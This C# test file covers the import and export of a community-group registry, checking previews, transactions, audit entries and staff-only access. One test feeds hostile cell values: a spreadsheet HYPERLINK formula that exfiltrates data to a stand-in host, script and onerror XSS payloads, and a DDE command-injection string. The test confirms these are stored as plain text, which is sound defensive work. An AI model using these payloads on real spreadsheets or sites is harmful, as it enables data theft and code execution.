using Microsoft.EntityFrameworkCore;
using UppkaCatalog.Core.Common;
using UppkaCatalog.Core.Groups;
using UppkaCatalog.Core.Groups.Import;
using static UppkaCatalog.Core.Tests.Groups.Import.RegistryWorld;
using UppkaCatalog.Core.Tests.Support;

namespace UppkaCatalog.Core.Tests.Groups.Import;

/// <summary>
/// What an import writes: nothing before the commit; then new groups as staff registration makes them, changed groups
/// with the fields that changed (audited), unchanged ones untouched — the same file twice changes nothing — all in one
/// transaction. Hostile cells are stored as the text they are. Only staff may import or export.
/// </summary>
public sealed class RegistryImportTests(RegistryWorld w) : IClassFixture<RegistryWorld>
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private Task<int> AuditCountAsync() => w.QueryAsync(db => db.AuditEntries.CountAsync(Ct));

    private Task<int> GroupCountAsync() => w.QueryAsync(db => db.Groups.CountAsync(Ct));

    [Fact]
    public async Task A_preview_writes_nothing()
    {
        var (groups, audit) = (await GroupCountAsync(), await AuditCountAsync());

        var preview = await w.PreviewAsync(w.Csv([Header, Row(Number()), Row(Number())]));
        var dryRun = await w.ImportAsync(w.Csv([Header, Row(Number())]), dryRun: true);

        Assert.Equal(2, preview.Count(ImportOutcome.New));
        Assert.Equal((1, 1), (dryRun.Rows, dryRun.Created));
        Assert.Equal((groups, audit), (await GroupCountAsync(), await AuditCountAsync()));
    }

    [Fact]
    public async Task A_committed_row_is_a_new_group_as_staff_registration_makes_it_and_each_is_audited()
    {
        var number = Number();
        var preview = await w.PreviewAsync(w.Csv([Header, Row(number, name: "UPPKA Seroja", district: "Tungkal Ilir", village: "Tungkal Harapan",
            regency: "Kab. Tanjung Jabung Barat", sector: "Minuman", year: "2018", members: "16", stage: "Berkembang", leader: "Nur Asiah",
            leaderPhone: "0812-5550-1012", whatsApp: "+62 812 3456 0013")]));

        var result = await w.Import.CommitAsync(w.Staff, preview, Ct);

        Assert.Equal((1, 1, 0, 0, 0), (result.Rows, result.Created, result.Updated, result.Unchanged, result.Refused));
        var g = await w.GroupAsync(number);
        Assert.NotNull(g);
        Assert.Equal(("UPPKA Seroja", "1507", "Tungkal Ilir", "Tungkal Harapan", BusinessSector.Drinks, 2018, 16, GroupStage.Developing),
            (g.Name, g.Regency!.Code, g.District, g.Village, g.Sector, g.FoundingYear!.Value, g.MemberCount, g.Stage!.Value));
        Assert.Equal(("Nur Asiah", "+6281255501012", "+6281234560013"), (g.LeaderName, g.LeaderPhone, g.PublicWhatsApp));
        Assert.True(g.IsActive);
        Assert.Equal(w.Host.Time.GetUtcNow(), g.CreatedAt);
        Assert.Null(g.UpdatedAt);
        Assert.StartsWith("uppka-seroja-tungkal-harapan", g.Slug);
        var audit = await w.QueryAsync(db => db.AuditEntries.Where(a => a.Subject == $"Group:{g.Id}").ToListAsync(Ct));
        Assert.Equal(("group.import-create", w.Staff.UserId), (Assert.Single(audit).Action, audit[0].ActorId));
    }

    [Fact]
    public async Task New_groups_get_slugs_as_registration_gives_them_numbered_past_those_taken()
    {
        var registered = await w.Groups.RegisterAsync(w.Staff, new GroupRegistrationInput
        {
            Name = "UPPKA Cempaka Slug", RegistrationNumber = Number(), RegencyCode = "1501", District = "Gunung Tujuh", Village = "Pelompek", Sector = "Minuman",
        }, Ct);
        var (a, b) = (Number(), Number());

        await w.ImportAsync(w.Csv([Header, Row(a, name: "UPPKA Cempaka Slug", village: "Pelompek"), Row(b, name: "UPPKA Cempaka Slug", village: "Pelompek")]));

        Assert.Equal("uppka-cempaka-slug-pelompek", registered.Slug);
        Assert.Equal(["uppka-cempaka-slug-pelompek-2", "uppka-cempaka-slug-pelompek-3"], [(await w.GroupAsync(a))!.Slug, (await w.GroupAsync(b))!.Slug]);
    }

    [Fact]
    public async Task The_same_file_again_creates_nothing_changes_nothing_and_audits_nothing()
    {
        var numbers = new[] { Number(), Number(), Number() };
        var path = w.Csv([Header, Row(numbers[0]), Row(numbers[1], regency: "1505", sector: "makanan olahan", leaderPhone: "081234567001"), Row(numbers[2], stage: "", whatsApp: "")]);
        await w.ImportAsync(path);
        var before = await Task.WhenAll(numbers.Select(w.GroupAsync));
        var audit = await AuditCountAsync();
        w.Host.Time.Advance(TimeSpan.FromDays(1));

        var again = await w.ImportAsync(path);
        var xlsxAgain = await w.ImportAsync(w.Xlsx([Header, Row(numbers[0]), Row(numbers[1], regency: "Kabupaten Muaro Jambi", leaderPhone: "+6281234567001"), Row(numbers[2], stage: "", whatsApp: "")]));

        Assert.Equal((3, 0, 0, 3, 0), (again.Rows, again.Created, again.Updated, again.Unchanged, again.Refused));
        Assert.Equal(3, xlsxAgain.Unchanged);
        Assert.Equal(audit, await AuditCountAsync());
        var after = await Task.WhenAll(numbers.Select(w.GroupAsync));
        Assert.Equal(before.Select(g => (g!.Name, g.Slug, g.UpdatedAt, g.LeaderPhone)), after.Select(g => (g!.Name, g.Slug, g.UpdatedAt, g.LeaderPhone)));
    }

    [Fact]
    public async Task A_changed_row_updates_only_the_fields_that_differ_sets_UpdatedAt_and_the_audit_entry_lists_them()
    {
        var number = Number();
        await w.ImportAsync(w.Csv([Header, Row(number)]));
        var before = (await w.GroupAsync(number))!;
        w.Host.Time.Advance(TimeSpan.FromHours(3));

        var preview = await w.PreviewAsync(w.Csv([Header, Row(number, name: "UPPKA Melati Jaya", leaderPhone: "0813 9999 0001", members: "18", stage: "")]));
        var row = Assert.Single(preview.Rows);
        var result = await w.Import.CommitAsync(w.Staff, preview, Ct);

        Assert.Equal(ImportOutcome.Changed, row.Outcome);
        Assert.Equal([RegistryField.Name, RegistryField.Stage, RegistryField.LeaderPhone], row.ChangedFields);
        Assert.Equal((1, 0, 1), (result.Rows, result.Created, result.Updated));
        var after = (await w.GroupAsync(number))!;
        Assert.Equal(("UPPKA Melati Jaya", "+6281399990001", (GroupStage?)null), (after.Name, after.LeaderPhone, after.Stage));
        Assert.Equal((before.Id, before.Slug, before.Village, before.CreatedAt), (after.Id, after.Slug, after.Village, after.CreatedAt));
        Assert.Equal(w.Host.Time.GetUtcNow(), after.UpdatedAt);
        var audit = await w.QueryAsync(db => db.AuditEntries.Where(a => a.Subject == $"Group:{after.Id}").OrderBy(a => a.Id).ToListAsync(Ct));
        Assert.Equal(["group.import-create", "group.import-update"], audit.Select(a => a.Action));
        Assert.Equal("name, stage, leaderPhone", audit[1].Details);
    }

    [Fact]
    public async Task Columns_the_file_lacks_are_left_as_they_are()
    {
        var number = Number();
        await w.ImportAsync(w.Csv([Header, Row(number, leader: "Halimah", leaderPhone: "0812 1111 2222", whatsApp: "0812 1111 3333")]));

        var result = await w.ImportAsync(w.Csv([Header[..6], Row(number, district: "Kumpeh Ulu")[..6]]));

        Assert.Equal(1, result.Updated);
        var g = (await w.GroupAsync(number))!;
        Assert.Equal(("Kumpeh Ulu", "Halimah", "+6281211112222", "+6281211113333", 2016, 18), (g.District, g.LeaderName, g.LeaderPhone, g.PublicWhatsApp, g.FoundingYear!.Value, g.MemberCount));
    }

    [Fact]
    public async Task Rows_never_delete_or_deactivate_groups_and_an_inactive_group_stays_inactive()
    {
        var (kept, inactive) = (Number(), Number());
        await w.ImportAsync(w.Csv([Header, Row(kept), Row(inactive)]));
        await w.QueryAsync(db => db.Groups.Where(g => g.RegistrationNumber == inactive).ExecuteUpdateAsync(s => s.SetProperty(g => g.IsActive, false), Ct));
        var groups = await GroupCountAsync();

        await w.ImportAsync(w.Csv([Header, Row(inactive, name: "UPPKA Diperbarui")]));

        Assert.Equal(groups, await GroupCountAsync());
        Assert.True((await w.GroupAsync(kept))!.IsActive);
        Assert.Equal(("UPPKA Diperbarui", false), ((await w.GroupAsync(inactive))!.Name, (await w.GroupAsync(inactive))!.IsActive));
    }

    [Fact]
    public async Task A_commit_writes_every_valid_row_in_one_transaction_or_none()
    {
        var existing = Number();
        await w.ImportAsync(w.Csv([Header, Row(existing)]));
        var numbers = Enumerable.Range(0, 1500).Select(_ => Number()).ToList();
        // Enough new rows for more than one save inside the transaction, and one change.
        var preview = await w.PreviewAsync(w.Csv([Header, .. numbers.Select(n => Row(n)), Row(existing, name: "UPPKA Gagal Ubah")]));
        var (groups, audit) = (await GroupCountAsync(), await AuditCountAsync());
        await w.QueryAsync(async db =>
        {
            await RefusingTrigger.CreateAsync(db, "refuse_import_update", "UPDATE OF \"Name\"", "Groups", "disk full", "NEW.\"Name\" = 'UPPKA Gagal Ubah'");
            return 0;
        });
        try
        {
            await Assert.ThrowsAnyAsync<DbUpdateException>(() => w.Import.CommitAsync(w.Staff, preview, Ct));
        }
        finally
        {
            await w.QueryAsync(async db =>
            {
                await RefusingTrigger.DropAsync(db, "refuse_import_update", "Groups");
                return 0;
            });
        }

        Assert.Equal((groups, audit), (await GroupCountAsync(), await AuditCountAsync()));
        Assert.Null(await w.GroupAsync(numbers[0]));
        Assert.Equal("UPPKA Melati", (await w.GroupAsync(existing))!.Name);

        var result = await w.Import.CommitAsync(w.Staff, preview, Ct);
        Assert.Equal((1500, 1), (result.Created, result.Updated));
        Assert.Equal(groups + 1500, await GroupCountAsync());
    }

    [Fact]
    public async Task A_commit_compares_with_the_registry_as_it_is_then_not_as_it_was_at_the_preview()
    {
        var number = Number();
        var preview = await w.PreviewAsync(w.Csv([Header, Row(number, name: "UPPKA Dari Berkas")]));
        Assert.Equal(ImportOutcome.New, preview.Rows[0].Outcome);
        // Meanwhile another staff member registers the same number in the dialog.
        var registered = await w.Groups.RegisterAsync(w.Staff, new GroupRegistrationInput
        {
            Name = "UPPKA Dari Dialog", RegistrationNumber = number, RegencyCode = "1505", District = "Sekernan", Village = "Sengeti", Sector = "Makanan olahan",
        }, Ct);

        var result = await w.Import.CommitAsync(w.Staff, preview, Ct);

        Assert.Equal((0, 1), (result.Created, result.Updated));
        var g = (await w.GroupAsync(number))!;
        Assert.Equal((registered.Id, "UPPKA Dari Berkas"), (g.Id, g.Name));
    }

    [Fact]
    public async Task Hostile_cells_are_stored_as_the_text_they_are()
    {
        const string formula = "=HYPERLINK(\"http://contoh.invalid/curi?d=\"&A1,\"Klik\")";
        const string html = "<script>alert('x')</script><b>UPPKA</b> Mawar";
        var (a, b, c, d) = (Number(), Number(), Number(), Number());

        var result = await w.ImportAsync(w.Csv([Header, Row(a, name: formula), Row(b, name: html, village: "<img src=x onerror=alert(1)>"), Row(c, leader: "+cmd|' /C calc'!A0"),
            // As the export writes it: the apostrophe that keeps Excel from running it is not part of the name.
            Row(d, name: "'" + formula)], ','));

        Assert.Equal(4, result.Created);
        Assert.Equal(formula, (await w.GroupAsync(a))!.Name);
        Assert.Equal(formula, (await w.GroupAsync(d))!.Name);
        Assert.Equal((html, "<img src=x onerror=alert(1)>"), ((await w.GroupAsync(b))!.Name, (await w.GroupAsync(b))!.Village));
        Assert.Equal("+cmd|' /C calc'!A0", (await w.GroupAsync(c))!.LeaderName);
        var exported = await w.Export.ExportAsync(w.Staff, Ct);
        Assert.Contains(exported.Rows, r => Equals(r[1], formula));
    }

    [Fact]
    public async Task The_export_has_the_template_columns_and_writes_each_group_as_the_import_reads_it()
    {
        var (sparse, full) = (Number(), Number());
        await w.ImportAsync(w.Csv([Header, Row(sparse, regency: "1571", sector: "jahit dan busana", year: "", members: "", stage: "Mandiri", leaderPhone: "+6281299990002", whatsApp: ""),
            Row(full, regency: "Kab. Kerinci", stage: "dasar")]));

        var sheet = await w.Export.ExportAsync(w.Staff, Ct);

        Assert.Equal(Header, sheet.Columns);
        Assert.Equal(Header, RegistryExportService.Template.Columns);
        Assert.Empty(RegistryExportService.Template.Rows);
        // Names as the template writes them; no year, no members and no phone as empty cells; numbers as numbers.
        Assert.Equal(new object[] { sparse, "UPPKA Melati", "Kota Jambi", "Sekernan", "Sengeti", "Jahit dan Busana", "", "", "Mandiri", "Siti Aminah", "0812-9999-0002", "" },
            sheet.Rows.Single(r => Equals(r[0], sparse)));
        Assert.Equal(new object[] { full, "UPPKA Melati", "Kabupaten Kerinci", "Sekernan", "Sengeti", "Makanan Olahan", 2016L, 18L, "Dasar", "Siti Aminah", "0812-3456-7001", "0812-3456-7002" },
            sheet.Rows.Single(r => Equals(r[0], full)));
    }

    [Fact]
    public async Task Only_staff_preview_import_or_export_and_a_member_changes_nothing()
    {
        var path = w.Csv([Header, Row(Number())]);
        var groups = await GroupCountAsync();

        await Assert.ThrowsAsync<ForbiddenException>(() => w.PreviewAsync(path, w.Member));
        await Assert.ThrowsAsync<ForbiddenException>(() => w.ImportAsync(path, dryRun: false, w.Member));
        await Assert.ThrowsAsync<ForbiddenException>(() => w.Export.ExportAsync(w.Member, Ct));
        var preview = await w.PreviewAsync(path);
        await Assert.ThrowsAsync<ForbiddenException>(() => w.Import.CommitAsync(w.Member, preview, Ct));

        Assert.Equal(groups, await GroupCountAsync());
    }
}
